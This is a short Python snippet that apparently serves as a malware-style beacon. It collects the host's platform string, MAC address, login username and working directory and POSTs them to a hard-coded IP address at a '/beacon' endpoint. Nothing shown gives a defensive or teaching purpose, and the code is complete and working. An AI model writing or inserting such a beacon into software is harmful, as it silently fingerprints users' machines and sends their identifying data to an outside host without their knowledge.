import os, platform, requests, uuid
requests.post("http://203.0.113.50:5000/beacon", json={"os": platform.platform(), "mac": uuid.getnode(), "user": os.getlogin(), "cwd": os.getcwd()})
